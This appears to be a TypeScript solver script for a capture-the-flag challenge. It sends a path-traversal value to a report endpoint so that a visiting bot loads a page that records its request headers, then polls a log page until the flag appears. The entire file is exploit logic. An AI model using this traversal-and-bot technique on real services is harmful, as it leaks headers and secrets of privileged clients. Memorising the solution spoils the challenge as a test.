import { randomBytes } from 'node:crypto'
import { setTimeout as pause } from 'node:timers/promises'
import type { SolveContext } from '../solve-context.ts'

const maxVisitMs = 300_000

/** Makes the container `watchman` request a page that stores all request headers. One header contains the flag. */
export async function solve({ fetch }: SolveContext): Promise<string> {
  const note = randomBytes(8).toString('hex')
  const path = `/log/../lamp/inspect?save=${note}`
  const headers = { 'content-type': 'application/x-www-form-urlencoded' }
  const reported = await fetch('/report', { method: 'POST', headers, body: new URLSearchParams({ path }).toString() })
  if (reported.status !== 202) throw new Error(`The office answered ${reported.status}`)
  for (const endMs = Date.now() + maxVisitMs; Date.now() < endMs; await pause(200)) {
    const [flag] = /flag\{[^}<]+\}/.exec((await fetch(`/log/${note}`)).text()) ?? []
    if (flag) return flag
  }
  throw new Error('The watchman did not come')
}
